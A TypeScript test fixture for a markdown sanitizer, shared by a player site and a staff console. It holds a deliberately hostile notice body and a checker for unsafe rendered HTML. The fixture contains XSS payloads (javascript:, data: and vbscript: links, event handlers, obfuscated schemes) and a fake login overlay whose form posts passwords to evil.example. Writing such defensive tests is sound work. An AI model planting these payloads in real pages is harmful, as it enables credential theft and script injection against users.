/**
 * A notice body written to attack whoever reads it (players on the site, staff in the console's preview), and a check
 * of rendered HTML against it. The player's and the console's renderer tests both use it, so they are held to the
 * same rule (shared/src/markdown/markdown-sanitizer.ts).
 */
export const HOSTILE_MARKDOWN = [
  '## お知らせ',
  '',
  // A fake "session expired" panel over the whole page, with a working form.
  '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">',
  '<p>セッションの有効期限が切れました。もう一度ログインしてください。</p>',
  '<form action="https://evil.example/steal" method="post"><input name="password" type="password">',
  '<button type="submit" formaction="https://evil.example/b">ログイン</button><textarea name="t"></textarea>',
  '<select name="s"><option>1</option></select></form>',
  '</div>',
  '',
  '<iframe src="https://evil.example/frame"></iframe><frameset><frame src="https://evil.example/f"></frameset>',
  '<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf">',
  '',
  '<img src="x" onerror="alert(\'img\')"> <svg onload="alert(\'svg\')"><circle r="9"/></svg>',
  '<math><mi xlink:href="javascript:alert(\'math\')">x</mi></math>',
  '',
  "[md-js](javascript:alert('md')) [md-data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  '[md-vb](vbscript:msgbox(1)) [md-entity](jav&#x09;ascript:alert(1))',
  '',
  '<a href="JaVaScRiPt:alert(\'mixed\')">mixed</a> <a href=" javascript:alert(\'space\')">space</a>',
  '<a href="java&#x09;script:alert(\'tab\')">tab</a> <a href="&#106;avascript:alert(\'entity\')">entity</a>',
  '<a href="data:text/html,<script>alert(1)</script>">data</a> <a href="VBScript:msgbox(1)">vb</a>',
  '',
  // Named elements clobber document properties (document.getElementById, form.action...).
  '<p id="getElementById" class="panel" name="x" onclick="alert(\'p\')" onmouseover="alert(\'p2\')">clobber</p>',
  '<style>body{display:none}</style><script>alert("script")</script>',
  '<dialog open>dialog</dialog><details open ontoggle="alert(\'details\')"><summary>s</summary>d</details>',
  '<div popover id="pop">popover</div><span data-x="1" aria-hidden="true" tabindex="0">attributes</span>',
  '',
  '<a href="https://evil.example/x" target="_self">external</a> <a href="//evil.example/y">protocol-relative</a>',
  '',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/s.css">',
].join('\n');

/**
 * Elements a notice must never contain: scripts, styles, forms and their controls, embedded content, and dialogs
 * (an open one sits over the page).
 */
const FORBIDDEN_TAGS = new Set([
  'script',
  'style',
  'link',
  'meta',
  'base',
  'form',
  'input',
  'button',
  'textarea',
  'select',
  'option',
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'img',
  'picture',
  'video',
  'audio',
  'source',
  'svg',
  'math',
  'dialog',
  'template',
]);

/** Attributes that style, name (DOM clobbering), submit, or put an element over the page (popover). */
const FORBIDDEN_ATTRIBUTES = new Set([
  'style',
  'class',
  'id',
  'name',
  'action',
  'formaction',
  'popover',
  'srcdoc',
  'xlink:href',
]);

/** Whether a browser would follow this address to a web page, a mail or a call (not a script or a data URL). */
function safeUrl(value: string): boolean {
  try {
    return ['http:', 'https:', 'mailto:', 'tel:'].includes(new URL(value, window.location.href).protocol);
  } catch {
    return false;
  }
}

/**
 * What is unsafe in rendered notice HTML, one line per problem (none: the HTML is safe). `origin` is the page's: a
 * link elsewhere must open in a new tab without handing over the opener or the address.
 */
export function unsafeMarkup(html: string, origin = window.location.origin): string[] {
  const template = document.createElement('template');
  template.innerHTML = html;
  const problems: string[] = [];
  for (const element of Array.from(template.content.querySelectorAll('*'))) {
    const tag = element.localName;
    if (FORBIDDEN_TAGS.has(tag)) problems.push(`<${tag}>`);
    for (const { name, value } of Array.from(element.attributes)) {
      // data-* attributes are the apps' own hooks (the legal pages' data-print-url, …): a notice must not set them.
      if (name.startsWith('on') || name.startsWith('data-') || FORBIDDEN_ATTRIBUTES.has(name)) {
        problems.push(`<${tag} ${name}>`);
      }
      if (['href', 'src', 'data', 'action', 'formaction'].includes(name) && !safeUrl(value)) {
        problems.push(`<${tag} ${name}="${value}">`);
      }
    }
    if (tag === 'a' && element.hasAttribute('href')) {
      const url = new URL(element.getAttribute('href')!, window.location.href);
      const leaves = /^https?:$/.test(url.protocol) && url.origin !== origin;
      const target = element.getAttribute('target');
      const rel = (element.getAttribute('rel') ?? '').split(/\s+/);
      if (leaves && (target !== '_blank' || !rel.includes('noopener') || !rel.includes('noreferrer'))) {
        problems.push(`<a href="${element.getAttribute('href')}"> leaves the site without a new tab and rel`);
      }
      if (!leaves && target !== null) problems.push(`<a href="${element.getAttribute('href')}" target>`);
    }
  }
  return problems;
}
